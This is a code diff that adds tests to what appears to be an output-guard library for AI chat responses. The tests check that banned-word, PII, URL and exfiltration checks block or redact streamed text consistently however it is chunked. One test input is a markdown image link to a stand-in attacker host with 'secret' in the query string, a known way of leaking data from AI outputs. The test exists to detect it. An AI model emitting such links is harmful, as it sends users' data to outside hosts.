@@ -24,7 +24,7 @@ from loopkit.checks import Trip
 from loopkit.detect.opening import personal_open
 from loopkit.detect.patterns import Finding
 from loopkit.errors import InvalidInput
-from loopkit.guard.stream import LONGEST
+from loopkit.guard.stream import LONGEST, Edits
 from loopkit.testing import MemorySink, chat_completion
 from tests.guard.test_chunks import KEY, PII, Chat, Responses, streamed
 from tests.guard.test_engine import ASK, SOON, client_of, said, slow_client, waiting
@@ -597,3 +597,37 @@ def test_an_answer_that_cant_be_read_is_refused_before_the_call() -> None:
         with pytest.raises(InvalidInput, match="guard that checks outputs"):
             client.post("/chat/completions", cast_to=kind, body=dict(ASK))
     assert provider.requests == []
+
+
+@pytest.mark.parametrize(
+    ("made", "text", "left", "by"),
+    [
+        ([checks.banned(["acme"]), checks.pii()], "see joe.acme.x@evil.com end", "see [EMAIL]", "banned"),
+        ([checks.pii(action="block"), checks.banned(["acme", "evil"])], "-@evil.com end", "", "pii"),
+        ([checks.urls(allow=["ok.org"]), checks.banned(["acme", "evil"])], "https://acme- end", "[LINK]", "banned"),
+        ([checks.banned(["acme"], action="hold"), checks.urls(allow=["ok.org"], action="block")],
+         "see https://evil.co/ acme x end", "see ", "urls"),
+        ([checks.exfiltration(action="block")], "hi ![x](\nhttps://evil.co/p?d=secret) bye", "hi ", "exfiltration"),
+    ],
+)  # fmt: skip
+@pytest.mark.parametrize("step", [1, 3, 100])
+def test_several_checks_agree_whatever_the_cuts(made: Any, text: str, left: str, by: str, step: int) -> None:
+    guard = loopkit.Guard(output=made)
+
+    @loopkit.trace(guard=guard)
+    def gives() -> Any:
+        yield from (text[at : at + step] for at in range(0, len(text), step))
+
+    got: list[str] = []
+    with pytest.raises(loopkit.Blocked) as raised:
+        got.extend(gives())
+    assert ("".join(got), raised.value.verdict.check) == (left, by)
+    assert guard.check(text, stage="output").check == by
+
+
+@given(st.permutations([("ip", 4, 8), ("ip", 1, 7), ("email", 1, 7), ("x", 9, 10)]))
+def test_edits_do_not_hang_on_the_order(found: list[tuple[str, int, int]]) -> None:
+    edits = Edits()
+    for each in found:
+        edits.add([Finding(*each)])
+    assert edits.applied("abcdefghijk", 0) == "a[EMAIL]i[X]k"
